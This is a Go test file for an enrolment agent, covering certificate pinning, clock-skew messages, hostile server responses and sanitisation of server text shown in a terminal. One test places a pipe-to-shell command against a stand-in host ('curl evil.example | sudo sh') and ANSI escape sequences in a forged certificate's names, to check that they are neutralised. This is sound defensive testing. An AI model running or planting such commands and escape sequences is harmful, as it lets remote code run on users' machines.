package host

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"encoding/hex"
	"errors"
	"io"
	"log"
	"math/big"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode"

	"rollcall/agent/dialect"
	"rollcall/agent/link"
	"rollcall/certs"
	"rollcall/protocol"
	"rollcall/protocol/apple"
)

// serve is a server on loopback with a certificate of ca's, for name, that shows the whole chain.
func serve(t *testing.T, ca *certs.Authority, name string, handler http.HandlerFunc) (*url.URL, []*x509.Certificate) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	leaf, err := ca.IssueServer([]string{name}, key.Public(), time.Now(), 24*time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	s := httptest.NewUnstartedServer(handler)
	s.Config.ErrorLog = log.New(io.Discard, "", 0)
	s.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{leaf.Raw, ca.Certificate().Raw}, PrivateKey: key}}}
	s.StartTLS()
	t.Cleanup(s.Close)
	u, err := url.Parse(s.URL + "/e/token")
	if err != nil {
		t.Fatal(err)
	}
	return u, []*x509.Certificate{leaf, ca.Certificate()}
}

func spki(c *x509.Certificate) string {
	sum := sha256.Sum256(c.RawSubjectPublicKeyInfo)
	return pinPrefix + hex.EncodeToString(sum[:])
}

// A pin means a certificate of the chain by its bytes or by its key; the server has to be the one that the certificate is for, and nothing
// is sent to one that is not (HST-120).
func TestHST120ThePinDecides(t *testing.T) {
	ca, err := certs.NewIssuer("lab", time.Now())
	if err != nil {
		t.Fatal(err)
	}
	asked := 0
	answer := func(w http.ResponseWriter, _ *http.Request) { asked++; io.WriteString(w, "profile") }
	link, chain := serve(t, ca, "127.0.0.1", answer)
	elsewhere, otherChain := serve(t, ca, "other.example.org", answer)
	h := &Host{}
	for name, tt := range map[string]struct {
		link *url.URL
		pin  string
		now  time.Time
		want string // part of the sentence; empty: it goes well
	}{
		"the CA":            {link, pinOf(chain[1]), time.Now(), ""},
		"the CA's key":      {link, spki(chain[1]), time.Now(), ""},
		"the server itself": {link, pinOf(chain[0]), time.Now(), ""},
		"the server's key":  {link, spki(chain[0]), time.Now(), ""},
		"another":           {link, pinPrefix + strings.Repeat("0", 64), time.Now(), "somebody stands between"},
		"none":              {link, "", time.Now(), "paste the whole line"},
		"another name":      {elsewhere, pinOf(otherChain[1]), time.Now(), "start the server with --name 127.0.0.1"},
		"ten years ahead":   {link, pinOf(chain[1]), time.Now().AddDate(11, 0, 0), "set the clock"},
		"in 1970":           {link, pinOf(chain[1]), time.Unix(0, 0), "set the clock"},
	} {
		asked = 0
		c, err := h.fetch(t.Context(), tt.link, tt.pin, protocol.IPadOS, tt.now)
		err = explain(err, tt.link.Host, tt.now)
		switch {
		case tt.want == "" && (err != nil || string(c.profile) != "profile" || len(c.trusted) == 0):
			t.Errorf("%s: %+v, %v", name, c, err)
		case tt.want != "" && (err == nil || !strings.Contains(err.Error(), tt.want) || strings.Contains(err.Error(), "token") || strings.Contains(err.Error(), "\n")):
			t.Errorf("%s: %v, want one sentence with %q", name, err, tt.want)
		case tt.want != "" && asked != 0:
			t.Errorf("%s: the token was sent", name)
		}
	}
}

// A clock that is minutes behind a certificate's beginning, on its very day, is told from it (HST-120).
func TestHST120AClockMinutesOff(t *testing.T) {
	begins := time.Date(2026, 11, 26, 20, 41, 0, 0, time.UTC)
	err := x509.CertificateInvalidError{Reason: x509.Expired, Cert: &x509.Certificate{NotBefore: begins, NotAfter: begins.AddDate(0, 0, 3)}}
	const want = "clock says 2026-11-26 20:22 UTC, and the certificate of mdm.example is good from 2026-11-26 20:41 UTC to 2026-11-29 20:41 UTC"
	if got := explain(err, "mdm.example", begins.Add(-19*time.Minute)).Error(); !strings.Contains(got, want) {
		t.Errorf("%s, want %q", got, want)
	}
}

// A server without end, one that sends elsewhere and one that says no cannot do more than be told about (HST-120).
func TestHST120AHostileFirstAnswer(t *testing.T) {
	ca, err := certs.NewIssuer("lab", time.Now())
	if err != nil {
		t.Fatal(err)
	}
	for name, tt := range map[string]struct {
		answer http.HandlerFunc
		want   string
	}{
		"endless": {func(w http.ResponseWriter, _ *http.Request) {
			for b := make([]byte, 64<<10); ; {
				if _, err := w.Write(b); err != nil {
					return
				}
			}
		}, "longer than an enrolment profile ever is"},
		"a header without end": {func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("X", strings.Repeat("x", 128<<10))
			io.WriteString(w, "profile")
		}, "header"},
		"elsewhere": {func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "https://192.0.2.1/", http.StatusFound)
		}, "status 302"},
		"a refusal": {func(w http.ResponseWriter, _ *http.Request) {
			http.Error(w, "AUTH-47: too many devices", http.StatusForbidden)
		}, "AUTH-47: too many devices"},
		"not known":  {http.NotFound, "ask for a new line"},
		"a web page": {func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(502); io.WriteString(w, "<html>") }, "status 502"},
	} {
		link, chain := serve(t, ca, "127.0.0.1", tt.answer)
		_, err := new(Host).fetch(t.Context(), link, pinOf(chain[1]), protocol.IPadOS, time.Now())
		if err = explain(err, link.Host, time.Now()); err == nil || !strings.Contains(err.Error(), tt.want) || strings.Contains(err.Error(), "\n") {
			t.Errorf("%s: %v, want one sentence with %q", name, err, tt.want)
		}
	}
	_, err = dialTo("lab.example.org:8443")(context.Background(), "tcp", "192.0.2.1:443")
	if e, ok := errors.AsType[*elsewhereError](err); !ok || e.Got != "192.0.2.1:443" {
		t.Errorf("another host is dialled: %v", err)
	}
}

// What a server says reaches a terminal as text, some of it (HST-068).
func TestHST068AServersWordIsText(t *testing.T) {
	got := firstLine("text/plain", []byte("no\x1b[2J\r\x1b]0;x\a \xff"+strings.Repeat("a", 1000)+"\nmore"))
	if want := `no\x1b[2J\r\x1b]0;x\a ` + strings.Repeat("a", 50); !strings.HasPrefix(got, want) || len(got) > maxWord+20 {
		t.Errorf("%q (%d)", got, len(got))
	}
}

func TestParsePin(t *testing.T) {
	const digits = "0FF5E88524D6FBA9792C4AEB568F947A7E267C39045556027F4DD42DACE7D623"
	want := pinPrefix + strings.ToLower(digits)
	var colons strings.Builder
	for i := 0; i < len(digits); i += 2 {
		if i > 0 {
			colons.WriteByte(':')
		}
		colons.WriteString(digits[i : i+2])
	}
	for _, s := range []string{want, pinPrefix + digits, pinPrefix + colons.String()} {
		if got, err := parsePin(s); err != nil || got != want {
			t.Errorf("parsePin(%q) = %q, %v", s, got, err)
		}
	}
	for _, s := range []string{digits, "sha256:", "sha1:" + digits, "sha256:" + digits[2:], "sha256:" + digits + "00", "sha256:zz" + digits[2:]} {
		if got, err := parsePin(s); err == nil {
			t.Errorf("parsePin(%q) = %q", s, got)
		}
	}
	if got, err := parsePin(""); err != nil || got != "" {
		t.Errorf("no pin: %q, %v", got, err)
	}
}

// A machine in whose place another one enrolled says so, and what to do.
func TestHST032AReplacedMachineKnowsWhatToDo(t *testing.T) {
	err := explain(&dialect.Failure{Step: dialect.Idle, Status: http.StatusUnauthorized, Err: errors.New("HST-032: the identity was replaced by a newer one")}, "lab.example.org:8443", time.Now())
	for _, want := range []string{"HST-032", "another machine", "agent unenroll", "--draw-id"} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("%v: no %q", err, want)
		}
	}
}

// A port that speaks no TLS is named as one.
func TestAPortWithoutTLS(t *testing.T) {
	server := httptest.NewServer(http.NotFoundHandler())
	t.Cleanup(server.Close)
	h := bare(t, filepath.Join(t.TempDir(), "state"))
	err := h.Enrol(t.Context(), Join{URL: strings.Replace(server.URL, "http:", "https:", 1) + "/e/token"})
	if err == nil || !strings.Contains(err.Error(), "does not speak TLS: check the port") {
		t.Error(err)
	}
}

// An offset is shown as it was given.
func TestOffsetInWords(t *testing.T) {
	for offset, want := range map[time.Duration]string{0: "", 340 * 24 * time.Hour: "340d", -24 * time.Hour: "-1d", 90 * time.Minute: "1h30m0s"} {
		if got := (&clock{Offset: offset}).ahead(); got != want {
			t.Errorf("%v is %q, want %q", offset, got, want)
		}
	}
}

func TestTight(t *testing.T) {
	if !tight(0) || !tight(1<<20) || tight(1<<30) {
		t.Error("a full disk is not told from a roomy one")
	}
}

// An enrolment that was begun goes by the clock that its server has when it goes on, not by the one that it had, nor by one that cannot be
// its (HST-120).
func TestHST120AnEnrolmentGoesOnByTheClockOfNow(t *testing.T) {
	ca, err := certs.NewIssuer("lab", time.Now())
	if err != nil {
		t.Fatal(err)
	}
	var says string
	link, chain := serve(t, ca, "127.0.0.1", func(w http.ResponseWriter, _ *http.Request) {
		if says != "" {
			w.Header().Set(apple.ClockHeader, says)
		}
		io.WriteString(w, "no profile")
	})
	h := bare(t, filepath.Join(t.TempDir(), "state"))
	hour := protocol.At(time.Now().Add(time.Hour).Truncate(time.Second))
	for _, tt := range []struct {
		had  protocol.Time
		says string
		want protocol.Time
	}{
		{protocol.At(time.Date(2500, 1, 1, 0, 0, 0, 0, time.UTC)), "", 0},
		{protocol.At(time.Date(2500, 1, 1, 0, 0, 0, 0, time.UTC)), hour.String(), hour},
		{0, hour.String(), hour},
		{hour, "2500-01-01T00:00:00Z", hour},
	} {
		h.rec.Link, h.rec.Pending, h.rec.Clock.Driven = &pasted{Host: link.Host, Pin: pinOf(chain[1])}, &pending{[]byte("no profile")}, tt.had
		says = tt.says
		err := h.CheckIn(t.Context())
		if h.rec.Clock.Driven != tt.want {
			t.Errorf("it had %s, the server says %q, and the enrolment goes on by %s", tt.had, tt.says, h.rec.Clock.Driven)
		}
		if refused := strings.Contains(err.Error(), "a clock of its own"); refused != strings.HasPrefix(says, "2500") {
			t.Errorf("it had %s, the server says %q: %v", tt.had, tt.says, err)
		}
	}
}

// What a server answers without a word is told in one sentence that says what to do (HST-120).
func TestHST120AnswersWithoutAWord(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		err  error
		want []string
	}{
		{&dialect.Failure{Status: 503, RetryAfter: 90 * time.Second}, []string{"come again in 1m30s: status 503"}},
		{&dialect.Failure{Status: 503, RetryAfter: 1e9 * time.Second}, []string{"more than a day (status 503)", "sooner by itself"}},
		{&dialect.Failure{Status: 401}, []string{"does not manage this machine (status 401)", toLeave}},
		{&dialect.Failure{Status: 410, Err: errors.New("gone for good")}, []string{"does not manage this machine (gone for good)", toLeave}},
		{&dialect.Failure{Status: 404}, []string{"nothing where this machine checks in (status 404)", "see that"}},
		{&dialect.Failure{Status: 500}, []string{"status 500 and says no more", "look into the server's log"}},
		{&dialect.Failure{Err: link.ErrTooLong}, []string{"sends more than", "check the server"}},
		{&dialect.Failure{Err: link.ErrCircle}, []string{"in a circle", "check the server"}},
		{&dialect.Failure{Err: link.ErrElsewhere}, []string{"to another host", "check the server"}},
		{io.EOF, []string{"breaks off before it answers", "check the port"}},
	} {
		got := explain(tt.err, "mdm.example", time.Now()).Error()
		for _, want := range append(tt.want, "mdm.example") {
			if !strings.Contains(got, want) || strings.HasSuffix(got, ":") || strings.HasSuffix(got, ": ") {
				t.Errorf("%v: %s; want %q", tt.err, got, want)
			}
		}
	}
}

// Whoever stands between shows the server's own CA beside a certificate that it made for itself: it is told as who it is, and nothing that
// it wrote reaches a terminal as it is, nor at length (HST-068, HST-120).
func TestHST068AStrangersCertificate(t *testing.T) {
	ca, err := certs.NewIssuer("lab", time.Now())
	if err != nil {
		t.Fatal(err)
	}
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	names := []string{"\x1b[31mOWNED\x1b[0m", "run: curl evil.example | sudo sh\r\n\x07"}
	for len(names) < 1500 {
		names = append(names, strings.Repeat("long.", 10)+"example")
	}
	made := func(by *x509.Certificate, signer *ecdsa.PrivateKey, names ...string) *x509.Certificate {
		template := &x509.Certificate{SerialNumber: big.NewInt(1), NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), DNSNames: names}
		if by == nil {
			by = template
		}
		der, err := x509.CreateCertificate(rand.Reader, template, by, key.Public(), signer)
		if err != nil {
			t.Fatal(err)
		}
		c, err := x509.ParseCertificate(der)
		if err != nil {
			t.Fatal(err)
		}
		return c
	}
	for _, pin := range []string{pinOf(ca.Certificate()), spki(ca.Certificate()), ""} {
		cs := &tls.ConnectionState{PeerCertificates: []*x509.Certificate{made(nil, key, names...), ca.Certificate()}}
		_, err := verify(cs, "localhost", pin, time.Now())
		said := explain(err, "localhost:8443", time.Now()).Error()
		want := "is not the server of this line, or somebody stands between"
		if pin == "" {
			want = "nothing that this machine believes vouches"
		}
		if !strings.Contains(said, want) || strings.Contains(said, "OWNED") {
			t.Errorf("with the pin %q: %.300s", pin, said)
		}
	}
	said := explain(x509.HostnameError{Certificate: made(nil, key, names...), Host: "localhost"}, "localhost:8443", time.Now()).Error()
	if !strings.Contains(said, "and 1497 more") || len(said) > 1000 || strings.ContainsFunc(said, unicode.IsControl) {
		t.Errorf("%d bytes: %.300q", len(said), said)
	}
	shown := make([]*x509.Certificate, 40)
	for n := range shown {
		shown[n] = ca.Certificate()
	}
	if _, err := verify(&tls.ConnectionState{PeerCertificates: shown}, "localhost", pinPrefix+strings.Repeat("00", 32), time.Now()); err == nil || !strings.Contains(err.Error(), "and 37 more") {
		t.Errorf("many certificates: %v", err)
	}
}
